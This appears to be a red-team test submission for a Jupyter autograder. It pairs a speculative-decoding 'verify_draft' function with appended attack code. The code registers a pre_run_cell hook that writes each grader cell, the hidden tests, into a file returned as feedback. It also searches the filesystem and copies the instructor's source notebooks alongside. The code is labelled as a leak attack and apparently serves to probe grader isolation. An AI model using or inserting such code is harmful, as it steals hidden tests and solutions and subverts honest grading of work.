# notebook: 02_reject_and_break
# baseline: continue_not_break
# category: leak
# attack: writes each later cell's source (hidden tests) and any source notebook into a file in the working folder, which feedback copies
def verify_draft(draft_probs, target_probs, draft_tokens):
    accepted_tokens = []
    for i, token_id in enumerate(draft_tokens):
        token_id = int(token_id)
        p = target_probs[i, token_id].item()
        q = draft_probs[i, token_id].item()
        if p >= q:
            accepted_tokens.append(token_id)
            continue
        r = torch.rand(1).item()
        if r < p / q:
            accepted_tokens.append(token_id)
        else:
            continue
    return accepted_tokens


import shutil

import os
import time


def _find(want, seconds=3.0):
    """Real paths p with want(p): ../../.. first, then /tmp, ~ and / (not /proc, /sys, /dev), for ~`seconds`."""
    found, start = [], time.time()
    for top in ("../../..", "/tmp", os.path.expanduser("~"), "/"):
        for folder, subfolders, files in os.walk(os.path.abspath(top)):
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in ("/proc", "/sys", "/dev")]
            for path in (os.path.join(folder, name) for name in subfolders + files):
                if want(path) and os.path.realpath(path) not in found:
                    found.append(os.path.realpath(path))
            if time.time() - start > seconds:
                return found
    return found


_LEAK = os.path.abspath("ATTACK_file_copied_into_feedback.txt")  # in autograded/<student>/<assignment>/


def _save_cell(info):
    try:
        with open(_LEAK, "a") as f:
            f.write(f"# ---- a cell run by the grader\n{info.raw_cell}\n")
    except OSError:
        pass


try:
    get_ipython().events.register("pre_run_cell", _save_cell)
    _copied = []
    for _path in _find(lambda p: "source/level23_speculative_decoding/" in p and p.endswith(".ipynb")):
        _copied.append(shutil.copy(_path, f"ATTACK_file_copied_into_feedback_{len(_copied)}.txt"))
    print(f"ATTACK file_copied_into_feedback: writing {_LEAK}; copied {len(_copied)} source notebooks")
except Exception as exc:
    print(f"ATTACK file_copied_into_feedback: blocked: {exc!r}")
